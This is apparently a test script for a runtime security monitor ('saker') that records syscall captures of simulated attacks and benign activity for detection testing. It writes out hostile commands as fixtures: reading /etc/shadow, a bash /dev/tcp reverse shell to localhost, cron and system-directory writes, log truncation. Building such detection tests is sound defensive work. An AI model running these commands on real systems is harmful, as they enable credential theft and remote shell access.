#!/usr/bin/env bash
# Records every attack and benign scenario into captures/scenarios/NAME.scap
# with `saker record --only-cmd`, as root. Re-run to refresh the captures:
#   bash tests/scenarios/record-all.sh [path/to/saker]
set -euo pipefail
root="$(cd "$(dirname "$0")/../.." && pwd)"
saker="${1:-$root/target/release/saker}"
out="$root/captures/scenarios"
work="$(mktemp -d /tmp/saker-scenarios.XXXXXX)"
trap 'rm -rf "$work"' EXIT
mkdir -p "$out"
for c in ptrace_attach memfd_exec module_load setuid_change; do
  cc -O1 -o "$work/$c" "$root/tests/scenarios/$c.c"
done
cc -O1 -o "$work/nginx" "$root/tests/scenarios/webserver.c"

rec() { # NAME CMD...
  local name="$1"; shift
  "$saker" record -q -w "$out/$name.scap" --only-cmd -- "$@"
  echo "recorded $name: $("$saker" info --json "$out/$name.scap" | python3 -c 'import json,sys; print(json.load(sys.stdin)["events"])') events" >&2
}

rec read-shadow cat /etc/shadow
rec shell-from-server "$work/nginx"
rec write-below-binary-dir sh -c 'echo evil > /usr/bin/saker-scenario-evil; rm -f /usr/bin/saker-scenario-evil'
rec write-below-etc sh -c 'echo evil > /etc/saker-scenario.conf; rm -f /etc/saker-scenario.conf'
rec reverse-shell bash -c '
  python3 -c "import socket; s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((\"127.0.0.1\", 4444)); s.listen(1); c, _ = s.accept(); c.sendall(b\"id\nexit\n\"); c.recv(4096)" &
  sleep 0.5
  bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" 2>/dev/null
  wait'
rec symlink-shadow sh -c 'ln -sf /etc/shadow /tmp/saker-scenario-shadow; rm -f /tmp/saker-scenario-shadow'
rec ptrace-attach "$work/ptrace_attach"
rec memfd-exec "$work/memfd_exec"
rec crontab-write sh -c 'echo "* * * * * root id" > /etc/cron.d/saker-scenario; rm -f /etc/cron.d/saker-scenario'
rec log-truncation sh -c 'echo line > /var/log/saker-scenario.log; : > /var/log/saker-scenario.log; rm -f /var/log/saker-scenario.log'
rec module-load "$work/module_load"
cp /bin/true "$work/suid-true"
rec setuid-program "$work/setuid_change" "$work/suid-true"
rec benign-package-install sh -c 'd=$(mktemp -d); for i in $(seq 1 40); do mkdir -p $d/usr/lib/pkg$i; echo lib > $d/usr/lib/pkg$i/lib.so; done; rm -rf $d'
rec benign-build sh -c 'd=$(mktemp -d); printf "int main(void){return 0;}\n" > $d/m.c; cc -o $d/m $d/m.c; $d/m; rm -rf $d'
